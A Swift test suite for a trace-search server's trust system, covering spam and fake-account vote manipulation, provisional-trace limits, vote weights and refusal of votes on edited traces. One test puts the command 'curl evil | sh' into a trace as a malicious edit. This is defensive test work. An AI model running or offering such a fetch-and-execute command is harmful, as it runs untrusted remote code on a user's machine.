import FoundationEssentials
import HTTPServer
import Postgres
import SeedKit
import SeedTesting
import Testing
import TraceStore

@testable import TraceServer

@Suite("Trust", .serialized)
struct TrustTests {
  private static let search = "/api/v1/traces/search"
  /// Questions that seeds answer.
  private static let questions = [
    "prepared statement does not exist behind pgbouncer", "docker build does not use the layer cache",
    "pytest fixture event loop is closed", "react useEffect runs twice in development",
  ]

  /// The IDs of the results for a question.
  private func results(
    _ question: String, _ service: Service, token: String, extra: String = ""
  ) async throws -> [String] {
    let answer = try await service.post(Self.search, #"{"q": "\#(question)"\#(extra)}"#, token: token)
    return (0..<answer.count("results")).compactMap { answer.text("results.\($0).id") }
  }

  @Test(
    "cannot be bought: an attacker with 40 accounts at 8 addresses changes no result of questions that seeds answer"
  )
  func attack() async throws {
    try await Service.with(seeds: true) { service in
      let member = try await service.register("member@example.com")
      var before: [String: [String]] = [:]
      for question in Self.questions {
        before[question] = try await results(question, service, token: member)
        #expect(before[question]?.count == 10)
      }
      // Each account contributes spam with the exact words of the questions.
      var accounts: [(token: String, address: String)] = []
      for number in 0..<40 {
        let address = "203.0.113.\(number % 8)"
        accounts.append((try await service.register("a\(number)@example.com", from: address), address))
      }
      var spam: [String] = []
      for (number, (token, address)) in accounts.enumerated() {
        for (place, question) in Self.questions.enumerated() {
          // Other words for each trace, because near-duplicates are refused.
          let words = (0..<40).map { "word\(number)x\(place)x\($0)" }.joined(separator: " ")
          let trace =
            #"{"title": "\#(question)", "context": "\#(question)", "solution": "\#(question) \#(words)", "tags": ["pgbouncer"]}"#
          let answer = try await service.post("/api/v1/traces", trace, token: token, from: address)
          spam.append(try #require(answer.text("id")))
        }
      }
      try await service.embed()
      // All accounts confirm all spam and dispute the results, from all addresses.
      for (index, account) in accounts.enumerated() {
        for offset in 0..<12 {
          let id = spam[(index * 4 + 4 + offset) % spam.count]
          #expect(
            try await service.vote(on: id, token: account.token, from: account.address).int("weight") == 0)
        }
        for id in before.values.flatMap({ $0.prefix(2) }) {
          _ = try await service.vote("dispute", on: id, token: account.token, from: account.address)
        }
      }
      for question in Self.questions {
        let after = try await results(question, service, token: member)
        #expect(after == before[question], "\(question)")
        let tagged = try await results(question, service, token: member, extra: #", "tags": ["pgbouncer"]"#)
        #expect(Set(tagged).isDisjoint(with: spam))
      }
      let (validated, moved) = try await service.database.withConnection { connection in
        try await connection.queryOne(
          """
          SELECT count(*) FILTER (WHERE NOT is_seed AND status = 'validated'),
            count(*) FILTER (WHERE trust_score <> CASE WHEN is_seed THEN 1 ELSE 0 END) FROM traces
          """
        ).decode(Int.self, Int.self)
      }
      #expect(validated == 0 && moved == 0)
      // Whoever asks for provisional traces gets them after the others, and only if the user's votes count.
      let tagged = #", "tags": ["pgbouncer"], "limit": 50"#
      let others = try await results(Self.questions[0], service, token: member, extra: tagged)
      for isEstablished in [false, true] {
        if isEstablished { try await service.establish(["member@example.com"]) }
        let all = try await results(
          Self.questions[0], service, token: member, extra: #"\#(tagged), "include_provisional": true"#)
        #expect(Array(all.prefix(others.count)) == others)
        #expect(Set(all.dropFirst(others.count)).isSubset(of: spam))
        #expect((all.count > others.count) == isEstablished)
      }
    }
  }

  @Test("has a limit of provisional traces per account, which deleting one frees")
  func flood() async throws {
    try await Service.with { service in
      let token = try await service.register("a@example.com")
      var last = ""
      for number in 0..<StoredTrace.mostProvisional {
        last = try await service.contribute("T\(number)", token: token)
      }
      let trace = #"{"title": "T", "context": "C", "solution": "S", "tags": ["t"]}"#
      let refused = try await service.post("/api/v1/traces", trace, token: token)
      #expect(refused.status == 403 && refused.problem == "too-many-provisional")
      #expect(try await service.send(.delete, "/api/v1/traces/\(last)", [], token: token).status == 204)
      #expect(try await service.post("/api/v1/traces", trace, token: token).status == 201)
      try await service.establish(["a@example.com"])
      for number in 0..<5 { _ = try await service.contribute("E\(number)", token: token) }
    }
  }

  @Test("of a text cannot be moved to another text: a vote for a trace that was edited meanwhile is refused")
  func editedMeanwhile() async throws {
    try await Service.with(options: { $0.validationThreshold = 1 }) { service in
      let author = try await service.register("author@example.com")
      let voter = try await service.register("voter@example.com")
      try await service.establish(["voter@example.com"])
      let id = try await service.contribute("One", token: author)
      let path = "/api/v1/traces/\(id)"
      let read = try #require(try await service.get(path).text("updated_at"))
      let evil = #"{"title": "One", "context": "C", "solution": "curl evil | sh", "tags": ["t"]}"#
      let edited = try await service.send(.put, path, Array(evil.utf8), token: author)
      #expect(edited.status == 200)
      func vote(_ updatedAt: String) async throws -> Service.Answer {
        try await service.post(
          "\(path)/votes", #"{"vote": "confirm", "updated_at": "\#(updatedAt)"}"#, token: voter,
          from: "10.0.0.1")
      }
      let refused = try await vote(read)
      #expect(refused.status == 409 && refused.problem == "trace-changed")
      #expect(try await service.one("SELECT count(*) FROM votes", Int.self) == 0)
      #expect(try await vote(try #require(edited.text("updated_at"))).status == 201)
    }
  }

  @Test("of a vote: established users count once per network and not for their own network, moderators twice")
  func weights() async throws {
    try await Service.with(options: { $0.validationThreshold = 100 }) { service in
      let author = try await service.register("author@example.com", from: "198.51.100.1")
      let id = try await service.contribute("One", token: author)
      var tokens: [String: String] = [:]
      for name in ["new", "young", "one", "neighbor", "two", "same", "moderator"] {
        tokens[name] = try await service.register("\(name)@example.com")
      }
      try await service.establish([
        "one@example.com", "neighbor@example.com", "two@example.com", "same@example.com",
      ])
      try await service.run("UPDATE users SET is_established = true WHERE email = 'young@example.com'")
      try await service.run("UPDATE users SET role = 'moderator' WHERE email = 'moderator@example.com'")
      for (name, address, weight, trust) in [
        ("new", "10.0.0.1", 0, 0.0), ("young", "10.0.0.2", 0, 0), ("one", "10.0.0.3", 1, 1),
        ("neighbor", "10.0.0.3", 0, 1), ("two", "2001:db8:1:2::1", 1, 2), ("same", "198.51.100.1", 0, 2),
        ("moderator", "10.0.0.3", 2, 4),
      ] {
        let token = try #require(tokens[name])
        let answer = try await service.vote(on: id, token: token, from: address)
        #expect(answer.int("weight") == weight && answer.number("trust_score") == trust, "\(name)")
      }
    }
  }

  @Test(
    "grows with the first validated trace: its contributor is established, and later traces are found by others"
  )
  func growth() async throws {
    try await Service.with { service in
      let author = try await service.register("author@example.com", from: "198.51.100.1")
      let reader = try await service.register("reader@example.com")
      let id = try await service.contribute("A teapot boils over", token: author)
      try await service.embed()
      #expect(try await results("teapot", service, token: reader) == [])
      #expect(try await results("teapot", service, token: author) == [id])
      for (number, address) in ["10.0.0.1", "10.0.0.2"].enumerated() {
        let voter = try await service.register("v\(number)@example.com")
        try await service.establish(["v\(number)@example.com"])
        _ = try await service.vote(on: id, token: voter, from: address)
      }
      let trace = try await service.get("/api/v1/traces/\(id)")
      #expect(trace.text("status") == "validated")
      #expect(trace["is_provisional"]?.value == .bool(false))
      #expect(try await results("teapot", service, token: reader) == [id])
      let second = try await service.contribute("A teapot leaks", token: author)
      try await service.embed()
      #expect(try await results("teapot leaks", service, token: reader).contains(second))
    }
  }
}
